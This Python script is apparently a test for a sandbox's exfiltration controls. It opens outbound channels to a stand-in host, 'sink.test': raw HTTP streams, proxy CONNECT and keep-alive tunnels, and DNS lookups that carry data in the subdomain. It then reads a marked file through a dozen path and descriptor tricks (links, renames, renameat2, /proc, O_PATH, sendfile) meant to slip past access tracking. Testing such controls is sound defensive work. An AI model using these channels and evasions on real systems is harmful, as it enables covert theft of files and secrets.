# SPDX-License-Identifier: Apache-2.0
"""Runs inside: threads send what is in the box over every way out, while one reads a marked file into the box.

ratchet_attack.py WAY FILE SINK_PORT: the ways are opened first, and each must have worked before the file is touched.
"""
import ctypes
import mmap
import os
import socket
import subprocess
import sys
import threading
import time

box = [b"harmless"]
way, path, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
HOST = "sink.test"
stop = time.monotonic() + 3


def by_stream(connect):
    """The box, again and again, over one connection that stays open; a new one when it is closed."""
    def send():
        first = True
        while time.monotonic() < stop:
            try:
                with connect() as s:
                    s.settimeout(2)
                    while time.monotonic() < stop:
                        s.sendall(b"<" + box[0] + b">")
                        if first:
                            ready.release()
                            first = False
            except OSError:
                time.sleep(0.001)
    return send


def captured():
    s = socket.create_connection((HOST, port), 5)
    s.sendall(b"POST / HTTP/1.1\r\nHost: sink.test:%d\r\nContent-Length: 999999999\r\n\r\n" % port)
    return s


def through_proxy():
    s = socket.create_connection(("127.0.0.1", 3128), 5)
    s.sendall(b"CONNECT sink.test:%d HTTP/1.1\r\nHost: sink.test:%d\r\n\r\n" % (port, port))
    head = s.recv(4096)
    if b" 200 " not in head.split(b"\r\n")[0]:
        s.close()
        raise OSError("refused")
    s.sendall(b"POST / HTTP/1.1\r\nHost: sink.test:%d\r\nContent-Length: 999999999\r\n\r\n" % port)
    return s


def kept_alive():
    """Requests one behind the other on one connection to the proxy, with the box in each."""
    first, s = True, None
    while time.monotonic() < stop:
        try:
            s = s or socket.create_connection(("127.0.0.1", 3128), 5)
            s.settimeout(2)
            s.sendall(b"GET http://sink.test:%d/?%s HTTP/1.1\r\nHost: sink.test:%d\r\n\r\n" % (port, box[0], port))
            answer = s.recv(65536)
            if first and b" 200 " in answer:
                ready.release()
                first = False
            if not answer:
                raise OSError("closed")
        except OSError:
            s = None
            time.sleep(0.001)


def names():
    """Questions for names with the box in them."""
    first = True
    while time.monotonic() < stop:
        try:
            socket.getaddrinfo(box[0].decode() + ".sink.test", 80)
        except OSError:
            pass
        if first:
            ready.release()
            first = False


def by_open():
    return open(path, "rb").read()


def by_vector():
    fd = os.open(path, os.O_RDONLY)
    parts = [bytearray(8) for _ in range(16)]
    n = os.preadv(fd, parts, 0)
    return b"".join(parts)[:n]


def by_map():
    with open(path, "rb") as f:
        return mmap.mmap(f.fileno(), 0, prot=mmap.PROT_READ)[:]


def by_child():
    return subprocess.run(["cat", path], stdout=subprocess.PIPE, check=True).stdout


def by_directory():
    directory = os.open(os.path.dirname(path), os.O_RDONLY | os.O_DIRECTORY)
    return os.read(os.open(os.path.basename(path), os.O_RDONLY, dir_fd=directory), 1000)


def by_link():
    os.symlink(path, "a-link")
    return open("a-link", "rb").read()


def by_hard_link():
    os.link(path, "another-name")
    return open("another-name", "rb").read()


def by_rename():
    os.rename(path, "another-name")
    return open("another-name", "rb").read()


def by_moved_directory():
    os.rename(os.path.dirname(path), "elsewhere")
    return open("elsewhere/" + os.path.basename(path), "rb").read()


def by_exchange():
    open("mine", "w").close()
    libc = ctypes.CDLL(None, use_errno=True)
    assert libc.renameat2(-100, path.encode(), -100, b"mine", 2) == 0
    return open("mine", "rb").read()


def by_proc():
    return open("/proc/self/root" + path, "rb").read()


def by_write_only():
    """Opened for writing alone, and then again, by the descriptor."""
    fd = os.open(path, os.O_WRONLY)
    return open(f"/proc/self/fd/{fd}", "rb").read()


def by_path_descriptor():
    fd = os.open(path, os.O_PATH)
    return open(f"/proc/self/fd/{fd}", "rb").read()


def by_sendfile():
    """No byte of it passes through this program: the kernel puts it into a connection that was open before."""
    s = captured()
    s.sendall(b"<harmless>")
    time.sleep(0.3)
    fd = os.open(path, os.O_RDONLY)
    try:
        os.sendfile(s.fileno(), fd, 0, 1000)
    except OSError:
        pass
    return os.pread(fd, 1000, 0)


ready = threading.Semaphore(0)
senders = [by_stream(captured), by_stream(captured), by_stream(through_proxy), kept_alive, names]
threads = [threading.Thread(target=f, daemon=True) for f in senders]
for thread in threads:
    thread.start()
for _ in threads:
    if not ready.acquire(timeout=20):
        sys.exit("a way out did not open")
stop = time.monotonic() + 0.5
box[0] = globals()["by_" + way]().strip()
for thread in threads:
    thread.join()
print("read:", box[0].decode())
